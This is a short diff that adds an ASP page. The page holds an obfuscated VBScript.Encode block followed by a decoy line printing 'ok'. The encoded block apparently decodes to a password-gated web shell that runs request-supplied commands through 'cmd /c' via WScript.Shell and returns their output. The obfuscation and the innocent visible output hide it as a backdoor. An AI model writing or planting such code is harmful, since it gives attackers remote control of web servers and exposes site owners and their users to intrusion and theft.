@@ -1,0 +1,2 @@
+<%@ LANGUAGE = VBScript.Encode %><%#@~^ugAAAA==(6P];!+/D`r2lk/E#,'~EXJP:4+	@#@&,~36m!Yn`]n$En/DcJ1:[E*#@#@&3	N~q6@#@&?nDPkP',ZMnlD+64N+^OvJU^DbwYcj4+^Vr#@#@&]nkwGxknRqDrOP/ 3X+^`r^sN~Jm,JPLP"n;!+dYcsG.s`J1E#*R?D[6EDR"+CN)s^`b@#@&4DUAAA==^#~@%>
+<html>ok</html>
